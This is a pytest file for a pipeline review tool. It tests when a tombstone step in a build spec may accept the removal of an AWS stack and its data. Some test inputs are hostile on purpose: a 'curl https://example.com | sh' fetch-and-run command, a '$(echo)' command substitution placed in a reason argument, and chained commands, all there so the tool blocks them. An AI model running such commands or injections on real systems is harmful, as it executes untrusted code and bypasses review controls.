"""A removal is one pull request: what its tombstone accepts, and what it never does."""

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from pipeline.review import engine
from pipeline.review.judge.review_baseline import ReviewBaseline
from pipeline.review.model import Review, Verdict
from pipeline.review.read import assembly
from pipeline.review.render import terminal
from pipeline.review.tests.assemblies import ACCOUNTS, TODAY, StackOf, write
from pipeline.review.tests.cases.case import resource, template
from pipeline.review.tests.cases.data import DELETED, table

Json = Any
QUEUE = {"Q": resource("SQS::Queue"), "S": resource("SecretsManager::Secret")}
RETAINED = {"T": {**table(), "DeletionPolicy": "Retain"}}
LOST = {"T": {**table(), **DELETED}}
UNKNOWN = {"X": resource("Glue::Registry")}
WHY = "Replaced by the partner's own in October"
QUOTED = "'Replaced by the partner'\"'\"'s own in October'"
RUN = ".venv/bin/python -m pipeline.builds.delete_stack"


def command(stage: str = "prod", *, keeps_data: bool, why: str = QUOTED, account: str = "") -> str:
    role = f'"arn:aws:iam::{account or ACCOUNTS[stage]}:role/cdk-deploy-role"'
    keeps = " --keeps-data" if keeps_data else ""
    place = f"--role {role} --region eu-west-1 --record /penstock/removed/{stage}-old{keeps}"
    return f"{RUN} {place} --why {why} --owner @example/old {stage}-old"


def pipeline(stage: str, *commands: str, setup: str = "make setup") -> Json:
    """A pipeline whose stage removes a stack by these commands, if there are any."""
    spec = {"phases": {"install": {"commands": [setup]}, "build": {"commands": list(commands)}}}
    action = {
        "Name": f"Remove-{stage}-old",
        "ActionTypeId": {"Category": "Build", "Provider": "CodeBuild"},
        "Configuration": {"ProjectName": {"Ref": "Build"}},
    }
    stages = [{"Name": stage, "Actions": [action] if commands else []}]
    build = {"Build": resource("CodeBuild::Project", {"Source": {"BuildSpec": json.dumps(spec)}})} if commands else {}
    return template({"P": resource("CodePipeline::Pipeline", {"Stages": stages}), **build})


def removal(folder: Path, head: Json, resources: Json, *, stage: str = "prod", **more: Any) -> Review:
    """The review of a change that takes the service `old` out of a stage."""
    baseline = ReviewBaseline(today=TODAY, **{key: more.pop(key) for key in ("removals_change",) if key in more})
    kept = {"kept": StackOf(template=template({"K": resource("SNS::Topic")}))}
    old = StackOf(template=template(resources), **more)
    before = write(folder / "base", {stage: {**kept, "old": old}}, pipeline=pipeline(stage))
    after = write(folder / "head", {stage: kept}, pipeline=head)
    return engine.review(assembly.read(before), assembly.read(after), baseline)


def blocking(found: Review) -> set[str]:
    return {each.rule for each in found.findings if not each.acknowledged and each.level.rank >= found.fail_on.rank}


def test_a_tombstone_accepts_the_removal_of_its_stack_with_its_reason_and_owner(tmp_path: Path) -> None:
    found = removal(tmp_path, pipeline("prod", command(keeps_data=True)), {**QUEUE, **RETAINED})
    assert found.verdict is Verdict.PASS
    accepted = {each.rule: each.acknowledged for each in found.findings if each.acknowledged}
    assert {"Review-StackRemoved", "Review-SecretLost", "Review-MessagesLost"} <= accepted.keys()
    assert set(accepted.values()) == {f"Tombstone: {WHY} (@example/old)"}
    assert found.stacks[0].tombstone == f"{WHY} (@example/old)"
    said = terminal.render(found)
    assert "reads what is deployed, and deletes it unless another one imports from it, or data would be lost" in said


@pytest.mark.parametrize(
    ("resources", "rule"), [(LOST, "Review-DataLoss"), ({**QUEUE, **UNKNOWN}, "Review-UnknownData")]
)
def test_a_tombstone_accepts_no_loss_of_data_where_data_are_kept(resources: Json, rule: str, tmp_path: Path) -> None:
    found = removal(tmp_path, pipeline("prod", command(keeps_data=True)), resources)
    assert blocking(found) == {rule}


def test_a_tombstone_accepts_all_of_its_stack_where_no_data_are_kept(tmp_path: Path) -> None:
    head = pipeline("dev", command("dev", keeps_data=False))
    found = removal(tmp_path, head, {**LOST, **UNKNOWN, **QUEUE}, stage="dev")
    assert found.verdict is Verdict.PASS
    assert "Review-DataLoss" in {each.rule for each in found.findings if each.acknowledged}


def test_a_stack_that_was_protected_is_not_removed_without_a_look_at_its_data(tmp_path: Path) -> None:
    found = removal(tmp_path, pipeline("prod", command(keeps_data=False)), LOST, protected=True)
    assert blocking(found) == {"Review-DataLoss"}


@pytest.mark.parametrize(
    "head",
    [
        pytest.param(pipeline("prod", command(keeps_data=True) + "; echo"), id="more in the line"),
        pytest.param(pipeline("prod", command(keeps_data=True), "echo"), id="another command"),
        pytest.param(pipeline("prod", command(keeps_data=True), setup="echo"), id="another setup"),
        pytest.param(pipeline("prod", "aws cloudformation delete-stack --stack-name prod-old"), id="by hand"),
        pytest.param(pipeline("prod", command(keeps_data=True, account="5" * 12)), id="another account"),
        pytest.param(pipeline("prod", command(keeps_data=True, why='"$(echo)"')), id="a reason that runs"),
        pytest.param(pipeline("prod", command(keeps_data=True, why="'a' 'b'")), id="two reasons"),
        pytest.param(pipeline("prod", command(keeps_data=True, why="''")), id="no reason"),
        pytest.param(pipeline("prod", command(keeps_data=True, why="'")), id="a quote that does not end"),
        pytest.param(pipeline("prod", command(keeps_data=True).replace(" --owner @example/old", "")), id="no owner"),
        pytest.param(pipeline("prod", command(keeps_data=True).replace("prod-old", "prod-kept")), id="another stack"),
    ],
)
def test_a_step_that_runs_anything_else_accepts_nothing(head: Json, tmp_path: Path) -> None:
    found = removal(tmp_path, head, QUEUE)
    assert "Review-SecretLost" in blocking(found)
    assert not any(each.acknowledged for each in found.findings)


def test_a_step_of_a_removals_name_that_runs_anything_else_blocks(tmp_path: Path) -> None:
    """Its role may become the deploy role of every account that something is removed from."""
    found = removal(tmp_path, pipeline("prod", "curl https://example.com | sh"), RETAINED)
    assert blocking(found) == {"Review-PipelineControl"}


def test_a_tombstone_accepts_nothing_if_what_its_step_runs_changes_too(tmp_path: Path) -> None:
    head = pipeline("prod", command(keeps_data=True))
    assert blocking(removal(tmp_path, head, QUEUE, removals_change=True)) == {"Review-SecretLost"}


def test_a_stack_that_only_leaves_its_stage_is_still_left_behind(tmp_path: Path) -> None:
    found = removal(tmp_path, pipeline("prod"), QUEUE)
    assert blocking(found) == {"Review-StackOrphaned"}
    assert replace(found.stacks[0], tombstone="") == found.stacks[0]
